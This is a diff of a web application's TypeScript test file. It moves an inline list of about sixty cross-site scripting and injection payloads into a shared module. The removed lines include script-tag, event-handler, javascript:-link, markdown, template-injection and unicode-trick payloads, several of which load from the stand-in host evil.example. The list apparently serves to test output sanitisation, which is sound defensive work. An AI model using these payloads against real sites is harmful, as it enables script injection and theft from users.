@@ -10,75 +10,8 @@ import { outboxPage } from '#server/post/outbox-page.ts'
 import { renderMarkdown } from '#server/prose/pipeline.ts'
 import { signInOverHttp } from '../api-person.ts'
 import { openPage, signIn } from '../browser.ts'
+import { hostileTexts as payloads } from '../hostile-texts.ts'
 import { startProduct } from '../server.ts'
-
-const fell = "document.title='fell'"
-const evil = 'https://evil.example'
-
-/** Sixty ways to have a text run, load or lead elsewhere; each says so by the page's title, a dialog or a request. */
-const payloads = [
-  `</script><script>${fell}</script>`,
-  `<script>${fell}</script>`,
-  `<script src=${evil}/a.js></script>`,
-  `<ScRiPt>${fell}</sCrIpT>`,
-  `<svg onload="${fell}">`,
-  `<svg/onload=alert(1)>`,
-  `<svg><script>${fell}</script></svg>`,
-  `<svg><animate onbegin=alert(1) attributeName=x>`,
-  `<img src=x onerror="${fell}">`,
-  `<img src=${evil}/a.png>`,
-  `<img srcset="${evil}/a.png 1x">`,
-  `<image href=${evil}/a.png>`,
-  `<iframe src=${evil}></iframe>`,
-  `<iframe srcdoc="<script>top.${fell}</script>">`,
-  `<object data=${evil}></object>`,
-  `<embed src=${evil}/a.swf>`,
-  `<link rel=stylesheet href=${evil}/a.css>`,
-  `<style>@import '${evil}/a.css'</style>`,
-  `<style>*{background:url(${evil}/b)}</style>`,
-  `<meta http-equiv=refresh content="0;url=${evil}">`,
-  `<base href=${evil}/>`,
-  `<form action=${evil}><button>x</button></form>`,
-  `<input autofocus onfocus=alert(1)>`,
-  `<body onload=alert(1)>`,
-  `<details open ontoggle=alert(1)>`,
-  `<video src=${evil}/a.mp4 autoplay></video>`,
-  `<audio src=x onerror=alert(1)>`,
-  `<marquee onstart=alert(1)>`,
-  `<math><mtext><img src=x onerror=alert(1)>`,
-  `<template><script>${fell}</script></template>`,
-  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
-  `<a href="javascript:${fell}">x</a>`,
-  `"><img src=x onerror=alert(1)>`,
-  `'><svg onload=alert(1)>`,
-  `" onmouseover="alert(1)" x="`,
-  `' autofocus onfocus='alert(1)`,
-  '<!--<img src="--><img src=x onerror=alert(1)//">',
-  ']]><script>alert(1)</script>',
-  '<![CDATA[<script>alert(1)</script>]]>',
-  `<x style="background:url(${evil}/c)">`,
-  `[x](javascript:alert(1))`,
-  `[x](JaVaScRiPt:alert(1))`,
-  `[x](java&#10;script:alert(1))`,
-  `[x](&#106;avascript:alert(1))`,
-  `[x](data:text/html,<script>alert(1)</script>)`,
-  `[x](vbscript:msgbox(1))`,
-  `![x](${evil}/d.png)`,
-  `![x](javascript:alert(1))`,
-  `![x](data:image/svg+xml,<svg/onload=alert(1)>)`,
-  `![a](x"onerror="alert(1))`,
-  `<javascript:alert(1)>`,
-  `<${evil}/?"onclick="alert(1)>`,
-  `[a]: javascript:alert(1)\n[a]`,
-  '[^x]: <img src=x onerror=alert(1)>\n[^x]',
-  '`<img src=x onerror=alert(1)>`',
-  '```html"onload="alert(1)\n<script>alert(1)</script>\n```',
-  '{{constructor.constructor("alert(1)")()}}',
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is the attack
-  '${alert(1)}#{alert(1)}<%= alert(1) %>',
-  '\u202E\u2066<script>alert(1)</script>\u2069',
-  '\u2028alert(1)\u2029</script>\u0000<script>alert(1)</script>',
-]
 
 /** Texts of the contract that are kept and shown. */
 const shownFields = [
